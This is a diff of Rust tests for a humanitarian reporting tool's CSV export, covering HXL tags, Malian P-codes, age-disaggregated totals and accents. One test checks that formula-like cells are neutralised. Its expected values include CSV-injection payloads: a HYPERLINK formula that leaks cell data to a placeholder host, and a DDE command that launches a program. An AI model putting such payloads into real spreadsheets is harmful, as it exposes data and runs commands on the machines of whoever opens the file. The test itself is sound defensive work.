@@ -33,10 +33,11 @@ fn line(activity: &str, sector: &str, region: &str, cercle: &str, r: [u32; 5], d
         status: ActivityStatus::Ongoing,
         start: d("2026-10-01"),
         end: d("2026-10-31"),
-        reached: Reached { girls: r[0], boys: r[1], women: r[2], men: r[3], disabled: r[4] },
+        reached: Reached { girls: r[0], boys: r[1], women: r[2], men: r[3], disabled: r[4], ..Default::default() },
         partner: Some("AMSS".into()),
         donor: donor.map(Into::into),
         remarks: Some("Séances à Ténenkou, « déplacés »".into()),
+        ..Default::default()
     }
 }
 
@@ -74,6 +75,7 @@ async fn seed(path: &Path) {
                 late: org == drc.id,
                 person_id: person.id,
                 now,
+                boundaries: "2021",
             },
         )
         .await
@@ -102,62 +104,53 @@ async fn csv_export_has_bom_header_hxl_pcodes_names_totals_and_accents() {
     assert_eq!(rows.len(), 2 + 3 + 1, "header, HXL, three lines, totals");
     assert_eq!(rows[0][0], "Organisation");
     assert_eq!(rows[0][1], "Partenaire de mise en œuvre");
-    assert_eq!(
-        rows[1],
-        [
-            "#org",
-            "#org+impl",
-            "#sector+code",
-            "#activity",
-            "#adm1+name",
-            "#adm1+code",
-            "#adm2+name",
-            "#adm2+code",
-            "#status",
-            "#date+start",
-            "#date+end",
-            "#reached+f+children",
-            "#reached+m+children",
-            "#reached+f+adults",
-            "#reached+m+adults",
-            "#reached+total",
-            "#reached+disabled",
-            "#org+funder",
-            "#date+reported",
-            "#meta+mechanism",
-            "#meta+remarks",
-            "#meta+late"
-        ]
-    );
+    assert_eq!(rows[1].len(), rows[0].len(), "one hashtag per column");
+    assert_eq!(&rows[1][..3], ["#org+prog", "#org+impl", "#org+funder"], "organisations tagged by their role");
+    for tag in [
+        "#sector+cluster+code",
+        "#status+code",
+        "#reached+f+children+age0_17",
+        "#reached+m+elderly+age60plus",
+        "#targeted+f+adults+age18_59",
+        "#group+code",
+        "#modality+code",
+        "#adm3+code",
+        "#meta+boundaries",
+        "#meta+approved",
+    ] {
+        assert!(rows[1].iter().any(|t| t == tag), "{tag} in {:?}", rows[1]);
+    }
     let col = |tag: &str| rows[1].iter().position(|t| t == tag).unwrap();
     // Mechanisms in their order (CPN first), then organisations.
     let drc = &rows[2];
-    assert_eq!(drc[col("#org")], "DRC/DDG");
+    assert_eq!(drc[col("#org+prog")], "DRC/DDG");
     assert_eq!(drc[col("#adm1+name")], "Gao");
     assert_eq!(drc[col("#adm2+code")], "ML0703");
-    assert_eq!(drc[col("#activity")], "Éducation aux risques des mines");
+    assert_eq!(drc[col("#activity+name")], "Éducation aux risques des mines");
+    assert_eq!(drc[col("#meta+boundaries")], "2021", "the boundary version of the line");
     assert_eq!(drc[col("#meta+late")], "oui");
     let nrc = &rows[3];
     assert_eq!(
         [&nrc[col("#adm1+name")], &nrc[col("#adm1+code")], &nrc[col("#adm2+name")], &nrc[col("#adm2+code")]],
         ["Mopti", "ML05", "Ténenkou", "ML0507"]
     );
-    assert_eq!(nrc[col("#status")], "en cours");
+    assert_eq!(nrc[col("#status+name")], "en cours");
+    assert_eq!(nrc[col("#status+code")], "active", "HXL's status vocabulary");
     assert_eq!(nrc[col("#reached+total")], "77");
     assert_eq!(nrc[col("#org+funder")], "ECHO");
     assert_eq!(nrc[col("#org+impl")], "AMSS");
     assert_eq!(nrc[col("#date+start")], "2026-10-01");
     assert_eq!(nrc[col("#date+reported")], "2026-11-03");
-    assert_eq!(nrc[col("#meta+remarks")], "Séances à Ténenkou, « déplacés »");
+    assert_eq!(nrc[col("#description+remarks")], "Séances à Ténenkou, « déplacés »");
     assert_eq!(rows[4][col("#adm2+name")], "Djenné");
     let total = &rows[5];
     assert_eq!(total[0], "TOTAL");
     assert_eq!(
         [
-            &total[col("#reached+f+children")],
-            &total[col("#reached+m+children")],
-            &total[col("#reached+f+adults")],
-            &total[col("#reached+m+adults")],
+            &total[col("#reached+f+children+age0_17")],
+            &total[col("#reached+m+children+age0_17")],
+            &total[col("#reached+f+adults+age18_59")],
+            &total[col("#reached+m+adults+age18_59")],
             &total[col("#reached+total")],
             &total[col("#reached+disabled")]
         ],
@@ -187,9 +180,11 @@ async fn csv_export_has_bom_header_hxl_pcodes_names_totals_and_accents() {
     let rows = csv_rows(&std::fs::read(&out_file).unwrap());
     assert_eq!(rows.len(), 2 + 2 + 1);
     assert_eq!(rows[0][1], "Implementing partner");
-    assert_eq!(rows[2][3], "Protection monitoring");
-    assert_eq!(rows[2][8], "ongoing");
-    assert_eq!(rows[4][15], "122", "total of the Mopti lines only");
+    let col = |tag: &str| rows[1].iter().position(|t| t == tag).unwrap();
+    assert_eq!(rows[2][col("#activity+name")], "Protection monitoring");
+    assert_eq!(rows[2][col("#status+name")], "ongoing");
+    assert_eq!(rows[0][col("#reached+f+elderly+age60plus")], "Elderly women (60+) reached", "cut-offs stated");
+    assert_eq!(rows[4][col("#reached+total")], "122", "total of the Mopti lines only");
 }
 
 #[tokio::test]
@@ -296,6 +291,7 @@ async fn csv_cells_that_would_be_formulas_are_neutralised() {
         late: false,
         person_id: person.id,
         now,
+        boundaries: "2021",
     };
     reports::submit(&db, submission).await.unwrap();
     db.close().await;
@@ -306,10 +302,10 @@ async fn csv_cells_that_would_be_formulas_are_neutralised() {
     let rows = csv_rows(&std::fs::read(&out_file).unwrap());
     let col = |tag: &str| rows[1].iter().position(|t| t == tag).unwrap();
     let (first, second) = (&rows[2], &rows[3]);
-    assert_eq!(first[col("#meta+remarks")], "'=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")");
+    assert_eq!(first[col("#description+remarks")], "'=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")");
     assert_eq!(first[col("#org+impl")], "'+cmd|' /C calc'!A0");
     assert_eq!(first[col("#org+funder")], "'@SUM(1+1)");
-    assert_eq!(second[col("#meta+remarks")], "'-2+3");
+    assert_eq!(second[col("#description+remarks")], "'-2+3");
     assert_eq!(second[col("#org+impl")], "'\tTAB");
     assert_eq!(second[col("#org+funder")], "'\rCR");
     // No cell of the file starts a formula.
